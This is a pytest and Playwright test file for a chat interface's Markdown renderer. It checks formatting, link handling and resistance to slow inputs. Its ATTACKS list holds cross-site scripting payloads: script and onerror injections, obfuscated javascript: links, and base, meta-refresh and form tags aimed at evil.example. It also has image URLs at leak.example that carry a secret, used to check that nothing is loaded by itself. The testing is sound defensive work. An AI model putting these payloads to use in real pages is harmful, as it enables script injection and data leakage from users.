"""Markdown of a model as elements: what it looks like, and what it cannot do."""

from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest
from playwright.async_api import Browser, Page, Request

from support.chatting import chatting

pytestmark = pytest.mark.anyio


@pytest.fixture(scope="module")
async def page(browser: Browser, tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[Page]:
    """The page of a chat, in which `render` returns the HTML of a text."""
    folder: Path = tmp_path_factory.mktemp("markdown")
    with chatting({}, folder / "chat.db", model="scripted") as chat:
        async with chat.page(browser) as opened:
            await opened.page.evaluate(
                """async () => {
                  const { MarkdownView } = await import("/pages/markdown.js");
                  window.pwned = 0;
                  window.render = (text) => {
                    const view = new MarkdownView();
                    document.querySelector("#turns").append(view.element);
                    for (let end = 0; end < text.length; end += 7) view.update(text.slice(0, end));
                    view.update(text);
                    return view.element;
                  };
                }"""
            )
            yield opened.page


async def render(page: Page, text: str) -> str:
    """Return the HTML of a text that arrives in pieces, without the parts around code."""
    html: str = await page.evaluate("(text) => render(text).innerHTML", text)
    return html


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("one\ntwo", "<p>one<br>two</p>"),
        ("# Big\n### Small", "<h3>Big</h3><h5>Small</h5>"),
        ("**a** *b* ~~c~~ ***d***", "<p><strong>a</strong> <em>b</em> <del>c</del> <em><strong>d</strong></em></p>"),
        ("snake_case_name and 2 * 3 * 4", "<p>snake_case_name and 2 * 3 * 4</p>"),
        ("`a <b> *c*`", "<p><code>a &lt;b&gt; *c*</code></p>"),
        ("\\*not\\* \\`code\\`", "<p>*not* `code`</p>"),
        ("- a\n- b\n  - c\n", "<ul><li>a</li><li>b<ul><li>c</li></ul></li></ul>"),
        ("3. a\n4. b", '<ol start="3"><li>a</li><li>b</li></ol>'),
        ("> quoted\n> *more*", "<blockquote><p>quoted<br><em>more</em></p></blockquote>"),
        ("a\n\n---\n\nb", "<p>a</p><hr><p>b</p>"),
        ("**never closed", "<p>**never closed</p>"),
        ("- [x] done", '<ul><li class="task"><input type="checkbox" disabled="">done</li></ul>'),
    ],
)
async def test_markdown_becomes_elements(page: Page, text: str, html: str) -> None:
    assert await render(page, text) == html


async def test_tables_and_code_have_their_parts(page: Page) -> None:
    table = await render(page, "| a | b |\n|:--|--:|\n| 1 | `x\\|y` |")
    assert '<th class="left">a</th><th class="right">b</th>' in table
    assert '<td class="right"><code>x|y</code></td>' in table
    code = await render(page, "```python\nif x:  # why\n    y = '<b>'\n```\nafter")
    assert '<span class="code-keyword">if</span>' in code
    assert "<span class=\"code-string\">'&lt;b&gt;'</span>" in code
    assert code.endswith("<p>after</p>")


async def test_links_lead_to_the_web_only_and_open_elsewhere(page: Page) -> None:
    html = await render(page, "[site](https://a.example/x_y) and https://b.example/(c), <mailto:a@b.example>.")
    assert html.count('target="_blank" rel="noopener noreferrer"') == 3
    for address in ("https://a.example/x_y", "https://b.example/(c", "mailto:a@b.example"):
        assert f'href="{address}"' in html


ATTACKS = [
    "<script>window.pwned = 1</script>",
    "<img src=x onerror='window.pwned = 1'>",
    "<svg onload='window.pwned = 1'></svg>",
    "<iframe srcdoc='<script>parent.pwned = 1</script>'></iframe>",
    "<a href='javascript:window.pwned=1'>x</a>",
    "[x](javascript:window.pwned=1)",
    "[x](JaVaScRiPt:window.pwned=1)",
    "[x](java\tscript:window.pwned=1)",
    "[x](&#106;avascript:window.pwned=1)",
    "[x]( javascript:window.pwned=1)",
    "[x](data:text/html,<script>window.pwned=1</script>)",
    "[x](vbscript:msgbox)",
    "[x](//evil.example/x)",
    "[x](/api/delete)",
    "[x](blob:https://a.example/x)",
    "[x](file:///etc/passwd)",
    "<javascript:window.pwned=1>",
    "![x](javascript:window.pwned=1)",
    '[x](https://a.example/"onmouseover="window.pwned=1)',
    "[<img src=x onerror=window.pwned=1>](https://a.example)",
    "`<script>window.pwned = 1</script>`",
    "```html\n<script>window.pwned = 1</script>\n```",
    '```"><img src=x onerror=window.pwned=1>\nx\n```',
    "| <img src=x onerror=window.pwned=1> |\n|---|\n| <script>window.pwned=1</script> |",
    "# <style>*{display:none}</style>",
    "- <form action=https://evil.example><input name=x></form>",
    "<base href=https://evil.example>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "[x]: javascript:window.pwned=1\n\n[x]",
]
_TEXT = "DIV P BR H3 H4 H5 H6 STRONG EM DEL CODE PRE UL OL LI BLOCKQUOTE HR A INPUT"
_REST = "TABLE THEAD TBODY TR TH TD FIGURE FIGCAPTION SPAN BUTTON svg use"
ALLOWED = {*_TEXT.split(" "), *_REST.split(" ")}


@pytest.mark.parametrize("text", ATTACKS)
async def test_no_text_of_a_model_becomes_a_script_or_a_foreign_element(page: Page, text: str) -> None:
    found: dict[str, Any] = await page.evaluate(
        """(text) => {
          const element = render(text);
          const all = [...element.querySelectorAll("*")];
          for (const each of all) if (each.tagName === "A") each.addEventListener("click", (e) => e.preventDefault());
          for (const each of all) each.click?.();
          return {
            tags: all.map(({ tagName }) => tagName),
            handlers: all.flatMap((each) => each.getAttributeNames()).filter((name) => name.startsWith("on")),
            links: all.filter(({ tagName }) => tagName === "A").map(({ protocol }) => protocol),
          };
        }""",
        text,
    )
    assert set(found["tags"]) <= ALLOWED
    assert found["handlers"] == []
    assert set(found["links"]) <= {"https:", "http:", "mailto:"}
    assert await page.evaluate("window.pwned") == 0


@pytest.mark.parametrize(
    "text",
    [
        "![a cat](https://leak.example/cat.png?secret=42)",
        "![](https://leak.example/pixel.gif)",
        "[![x](https://leak.example/x.png)](https://leak.example)",
        "<img src='https://leak.example/x.png'>",
        "<link rel=preload href=https://leak.example/x>",
        "https://leak.example/bare",
    ],
)
async def test_no_image_or_link_is_loaded_by_itself(page: Page, text: str) -> None:
    requested: list[str] = []

    def note(request: Request) -> None:
        requested.append(request.url)

    page.on("request", note)
    html = await render(page, text)
    await page.evaluate("new Promise((done) => requestAnimationFrame(() => setTimeout(done)))")
    await page.evaluate("fetch('/api/conversations').then((answer) => answer.text())")  # comes after what was begun
    page.remove_listener("request", note)
    assert [url for url in requested if "leak.example" in url] == []
    assert "<img" not in html


@pytest.mark.parametrize(
    "piece", ["*", "**a", "_", "[", "![", "[x](", "`", "~~", "<", "> ", "- ", "|", "a_b*c", "https://", "```\n", "\\"]
)
async def test_no_text_takes_long(page: Page, piece: str) -> None:
    # A search that starts over at each character would take minutes for these, and the test would be ended.
    text = piece * (300_000 // len(piece))
    length = await page.evaluate(
        """async (text) => {
          const { MarkdownView } = await import("/pages/markdown.js");
          const view = new MarkdownView();
          view.update(text);
          return view.element.textContent.length;
        }""",
        text,
    )
    assert length <= len(text) + 10
